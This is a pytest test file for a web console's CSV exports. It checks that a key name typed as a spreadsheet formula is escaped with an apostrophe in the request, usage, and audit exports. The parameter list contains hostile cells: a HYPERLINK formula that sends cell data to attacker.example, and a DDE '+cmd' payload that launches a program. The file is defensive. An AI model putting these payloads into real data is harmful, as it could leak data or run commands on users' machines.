"""CSV exports are opened in spreadsheets: text a member typed (a key's name) must never be
read there as a formula, while numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone

from billing.ledger import usage_record_batch
from billing.rollups import usage_rollup
from console.exports import spreadsheet_safe
from console.services.keys import api_key_create
from tests.billing.factories import usage

HOSTILE = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+cmd|'/c calc'!A0", "'+cmd|'/c calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tx", "'\tx"),
        ("-5", "-5"),
        ("-0.250000", "-0.250000"),
        ("plain name", "plain name"),
        (42, 42),
        (None, None),
    ],
)
def test_cells_a_spreadsheet_would_evaluate_are_made_text(value, cell):
    assert spreadsheet_safe(value) == cell


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode())))


def test_every_console_and_api_export_quotes_a_formula_in_a_key_name(client_for, org, owner):
    key = api_key_create(org=org, actor=owner, name=HOSTILE, scopes=["inference"]).key
    usage_record_batch([usage(org.id, timezone.now(), api_key_id=key.pk)])
    usage_rollup()
    client = client_for(owner)
    requests = client.get(f"/o/{org.slug}/requests/?format=csv")
    usage_page = client.get(f"/o/{org.slug}/usage/?group=key&format=csv")
    usage_api = client.get(f"/api/orgs/{org.slug}/usage/?group_by=key&format=csv")
    audit = client.get(f"/o/{org.slug}/audit/?format=csv")
    exports = {
        "requests": b"".join(requests.streaming_content),
        "usage page": b"".join(usage_page.streaming_content),
        "usage API": b"".join(usage_api.streaming_content),
        "audit": b"".join(audit.streaming_content),
    }
    for name, body in exports.items():
        cells = [cell for row in _rows(body) for cell in row]
        # The audit log's target is "NAME (sk-…)": it starts with the name too.
        assert any(cell.startswith("'" + HOSTILE) for cell in cells), name
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), name
